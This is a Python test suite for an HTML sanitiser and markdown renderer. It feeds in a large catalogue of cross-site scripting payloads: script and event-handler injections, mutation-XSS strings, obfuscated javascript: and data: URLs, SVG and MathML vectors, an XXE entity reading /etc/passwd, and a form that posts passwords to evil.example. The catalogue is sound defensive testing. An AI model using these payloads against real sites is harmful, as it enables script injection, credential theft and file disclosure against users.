"""Hostile HTML: what was tried on others, and whatever hypothesis can think of."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from peer.node.writing.prose import prose
from peer.node.writing.washing import clean, clean_own

KNOWN = {"p", "br", "hr", "blockquote", "pre", "ul", "ol", "li", "dl", "dt", "dd"} | {
    *("h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
    *("a", "code", "em", "strong", "del", "s", "sub", "sup", "b", "i", "u", "small"),
    *("abbr", "cite", "q", "time", "img", "section", "div"),
}
TOLD = {"href", "src", "title", "rel", "alt", "class", "id", "lang", "dir", "start"} | {
    *("tabindex", "loading", "datetime"),
}
ADDRESSES = ("href", "src", "cite", "action", "formaction", "poster", "data", "srcset")


class Reader(HTMLParser):
    """What a browser would find in a page: its tags, and where they lead."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.words = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data!r}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl!r}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data!r}")

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(f"a section: {data!r}")


def assert_harmless(html: str) -> None:
    page = Reader(html)
    assert KNOWN.issuperset(page.tags), html
    for tag, name, value in page.attributes:
        assert name in TOLD, html
        if name in ADDRESSES:
            scheme = urlsplit("".join(c for c in value if c > " ")).scheme
            assert scheme.lower() in ("", "http", "https", "mailto"), html
        if name == "rel":
            assert value == "noopener nofollow ugc", html
        if name == "id":
            assert "-" in value, html
        assert tag != "img" or name != "src" or not value.startswith("mailto:")


SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\t\n bar>",
    "<script><!--<script></script>--><img src=x onerror=alert(1)></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img/src=x/onerror=alert(1)//",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<img """><script>alert(1)</script>">',
    "<b onmouseover=alert(1)>hover</b>",
    "<p/onclick=alert(1)>x",
    "<a href=x onfocus=alert(1) autofocus tabindex=1>x</a>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x>",
    "<portal src=javascript:alert(1)>",
]
DRAWINGS = [
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'></svg>",
    "<svg><style>@import'//evil.example/x.css'</style></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction>",
    "<math><annotation-xml encoding=text/html><img src onerror=alert(1)></math>",
]
#: Read twice, these are not what they were when read once.
MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1"
    " onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><style></template><img src=x onerror=alert(1)></style>",
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<style><p title='</style><img src=x onerror=alert(1)>'>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<select><template><style><!--</style><a rel='--></style><img onerror=alert(1)>'>",
    "<math><mi><style><!--</style><img src onerror=alert(1)>--></mi></math>",
    "<p><svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<a>1<table><td><a>2</a></td></table></a>",
    "<table><a><tr><td><a href=x>y</table>",
    "<b><p><b><p><i></b></p></i>",
    "<option><style></option></select><img src=x onerror=alert(1)></style>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<frameset><frame src=javascript:alert(1)>",
]
ELSEWHERE = [
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<a href=x ping=https://evil.example>x</a>",
    "<a href=x target=_blank rel=opener>x</a>",
    "<a href=x rel=me>x</a>",
    "<img src=x srcset='https://evil.example/1 1x'>",
    "<p id=location name=cookie class='btn danger'>x</p>",
    "<a id=document href=x>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
]
BAD_ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\0script:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://example.org/1",
    "file:///etc/passwd",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "jar:https://example.org!/x",
    "intent:#Intent;end",
]
HOSTILE = [
    *SCRIPTS,
    *DRAWINGS,
    *MUTATIONS,
    *ELSEWHERE,
    *(f'<a href="{each}">x</a>' for each in BAD_ADDRESSES),
    *(f'<img src="{each}">' for each in BAD_ADDRESSES),
]


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_harmless(html):
    assert_harmless(clean(html))
    assert_harmless(clean_own(html))


@pytest.mark.parametrize("html", HOSTILE)
def test_washing_again_changes_nothing(html):
    once = clean(html)

    assert clean(once) == once
    assert clean_own(clean_own(html)) == clean_own(html)


@pytest.mark.parametrize("html", HOSTILE)
def test_in_our_markdown_html_is_only_words(html):
    assert_harmless(prose(html))
    assert_harmless(
        prose(f"# {html}\n\n> {html}\n\n- {html}\n\n|{html}|\n|-|\n|{html}|")
    )


@pytest.mark.parametrize("address", BAD_ADDRESSES)
def test_a_bad_address_in_markdown_leads_nowhere(address):
    texts = [
        f"[x]({address})",
        f"[x](<{address}>)",
        f"![x](<{address}>)",
        f"<{address}>",
        f"[x][1]\n\n[1]: <{address}>",
        f"[^1]\n\n[^1]: [x](<{address}>)",
    ]

    for text in texts:
        assert_harmless(prose(text))


_PIECES = st.sampled_from(
    [
        *HOSTILE,
        *"<>\"'&/=-` \n\0",
        "<a ",
        "</a>",
        "<!--",
        "-->",
        "]]>",
        "<table>",
        "<td>",
    ]
)


@given(st.lists(_PIECES | st.text(max_size=10), max_size=8).map("".join))
def test_whatever_is_put_together_is_harmless_and_settled(html):
    once = clean(html)

    assert_harmless(once)
    assert clean(once) == once


@given(st.text(st.characters(), max_size=200))
def test_any_text_can_be_washed_even_what_is_no_text(text):
    assert_harmless(clean(text))


def test_what_people_write_comes_through():
    html = '<p>See <a href="https://blog.example/1"><em>this</em></a>,<br>please.</p>'

    assert clean(html) == (
        '<p>See <a href="https://blog.example/1" rel="noopener nofollow ugc">'
        "<em>this</em></a>,<br>please.</p>"
    )


def test_a_link_that_is_relative_to_another_peer_leads_nowhere_here():
    assert clean('<a href="/account">x</a>') == '<a rel="noopener nofollow ugc">x</a>'


def test_a_picture_elsewhere_is_not_asked_for():
    assert (
        "img" not in Reader(clean('<p><img src="https://b.example/pixel">x</p>')).tags
    )


def test_a_page_has_one_h1_and_it_is_ours():
    assert clean("<H1 class=x>Title</H1>") == "<h2>Title</h2>"


def test_a_hidden_host_is_shown():
    html = '<a href="https://evil.example"><span class="invisible">evil.</span>b</a>'

    assert Reader(clean(html)).words == "evil.b"


def test_too_much_html_is_shown_as_text():
    html = "<div>" * 20_000

    assert Reader(clean(html)).tags == []
    assert clean("x" * 600_000) == "x" * 600_000
